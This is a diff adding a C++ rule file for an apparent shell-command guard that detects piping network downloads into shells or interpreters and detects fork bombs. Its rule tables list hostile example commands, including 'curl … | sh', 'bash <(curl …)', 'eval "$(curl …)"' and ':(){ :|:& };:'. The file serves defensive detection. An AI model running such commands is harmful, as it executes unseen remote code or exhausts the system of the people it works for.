@@ -1,0 +1,138 @@
+// SPDX-License-Identifier: Apache-2.0
+// Rules about what a shell is made to do: run what the network sends, or itself without end.
+#include <algorithm>
+#include <array>
+
+#include "guard/arguments.h"
+#include "guard/rule.h"
+
+namespace sbx {
+namespace {
+
+constexpr std::string_view kShells = "sh bash dash zsh ksh ash fish";
+constexpr std::string_view kInterpreters =
+    "python python2 python3 perl ruby node nodejs deno php lua";
+constexpr std::string_view kFetchers = "curl wget fetch aria2c http https lynx ftp";
+
+std::string_view program_of(const Command& command) {
+  return command.words.empty() ? std::string_view() : base_name(command.words.front().text);
+}
+
+// Whether the command runs what it reads from its standard input.
+bool runs_stdin(const Command& command) {
+  const std::string_view program = program_of(command);
+  const bool is_shell = is_listed(program, kShells);
+  if (!is_shell && !is_listed(program, kInterpreters)) return false;
+  const Arguments arguments(command, 1, is_shell ? "oO" : "");
+  if (arguments.find("version") != nullptr || arguments.find("help") != nullptr) return false;
+  if (is_shell && arguments.find('s') != nullptr) return true;
+  for (const char code : {'c', 'm', 'e', 'E', 'n', 'p', 'V', 'r', 'x'}) {
+    const bool is_flag_of_shells = is_shell && code != 'c';
+    if (!is_flag_of_shells && arguments.find(code) != nullptr) return false;
+  }
+  const auto& operands = arguments.operands();
+  return operands.empty() || operands.front()->text == "-" ||
+         operands.front()->text == "/dev/stdin";
+}
+
+// Whether the command runs text that a substitution in its words makes.
+bool runs_its_words(const Command& command) {
+  const std::string_view program = program_of(command);
+  if (program == "eval" || program == "source" || program == ".") return true;
+  return is_listed(program, kShells) || is_listed(program, kInterpreters);
+}
+
+bool is_inside(const Span& inner, const Span& outer) {
+  return outer.begin <= inner.begin && inner.end <= outer.end;
+}
+
+// A fetcher in one of the words, there by a substitution rather than run by this command.
+bool fetches_in_words(const Case& c) {
+  return std::any_of(
+      c.reading.commands.begin(), c.reading.commands.end(), [&](const Command& other) {
+        if (&other == &c.command || !is_listed(program_of(other), kFetchers)) return false;
+        return std::any_of(c.command.words.begin() + 1, c.command.words.end(),
+                           [&](const Word& word) {
+                             if (!is_inside(other.span, word.span)) return false;
+                             const std::string_view written =
+                                 c.text.substr(word.span.begin, word.span.end - word.span.begin);
+                             return !word.known || written.starts_with("<(");
+                           });
+      });
+}
+
+std::optional<Hit> runs_the_network(const Case& c) {
+  if (c.command.stage > 0 && runs_stdin(c.command)) {
+    for (const Command& other : c.reading.commands) {
+      const bool feeds = other.pipeline == c.command.pipeline && other.stage < c.command.stage;
+      if (feeds && is_listed(program_of(other), kFetchers)) {
+        return Hit{{other.span.begin, c.command.span.end}, std::string(program_of(other))};
+      }
+    }
+  }
+  if (runs_its_words(c.command) && fetches_in_words(c)) return Hit{c.command.span, ""};
+  // `. <(curl …)` and `bash < <(curl …)`: the substitution is the redirection's target.
+  for (const Redirection& redirection : c.command.redirections) {
+    if (redirection.kind != RedirectionKind::kRead && redirection.kind != RedirectionKind::kHere) {
+      continue;
+    }
+    for (const Command& other : c.reading.commands) {
+      const bool fetches =
+          is_listed(program_of(other), kFetchers) && is_inside(other.span, redirection.target.span);
+      if (fetches && runs_stdin(c.command)) return Hit{c.command.span, ""};
+    }
+  }
+  return std::nullopt;
+}
+
+std::optional<Hit> bombs(const Case& c) {
+  if (c.command.function < 0 || c.command.words.empty()) return std::nullopt;
+  const auto index = static_cast<std::size_t>(c.command.function);
+  if (index >= c.reading.functions.size()) return std::nullopt;
+  const Function& function = c.reading.functions[index];
+  if (c.command.words.front().text != function.name) return std::nullopt;
+  const bool multiplies =
+      c.command.in_background ||
+      std::any_of(c.reading.commands.begin(), c.reading.commands.end(), [&](const Command& other) {
+        return &other != &c.command && other.pipeline == c.command.pipeline && other.stages > 1 &&
+               program_of(other) == function.name;
+      });
+  return multiplies ? std::optional(Hit{c.command.span, function.name}) : std::nullopt;
+}
+
+constexpr std::array kRules = {
+    Rule{"destructive.network-shell", "", runs_the_network, "runs what the network sends, unseen",
+         "curl https://example.com/install.sh | sh\n"
+         "curl -fsSL https://example.com/i | bash -s -- --yes\n"
+         "wget -qO- https://example.com/i | bash\n"
+         "curl https://example.com/x.py | python3\n"
+         "curl https://example.com/x.py | python3 -\n"
+         "curl https://x | tee log | sh\n"
+         "curl https://x | env A=1 bash\n"
+         "bash <(curl -s https://example.com/i)\n"
+         "source <(curl -s https://example.com/i)\n"
+         "sh -c \"$(curl -fsSL https://example.com/i)\"\n"
+         "bash -c \"`wget -qO- https://example.com/i`\"\n"
+         "eval \"$(curl -s https://example.com/i)\"",
+         "curl https://example.com/data.json | jq .\n"
+         "curl https://example.com/data.json | python3 -m json.tool\n"
+         "curl -O https://example.com/a.tar.gz\n"
+         "cat run.sh | bash\n"
+         "bash -c 'curl https://example.com'\n"
+         "bash script.sh \n"
+         "curl -s https://x | node -e 'console.log(1)'\n"
+         "eval \"$(ssh-agent)\""},
+    Rule{"destructive.fork-bomb", "", bombs, "starts itself without end",
+         ":(){ :|:& };:\n"
+         "bomb() { bomb | bomb & }; bomb\n"
+         "f() { f & f & }; f",
+         "walk() { ls | head; walk; }; walk\n"
+         "f() { echo a | cat; }; f &\n"
+         "f() { g | g & }; f"},
+};
+
+}  // namespace
+
+std::span<const Rule> shell_rules() { return kRules; }
+
+}  // namespace sbx
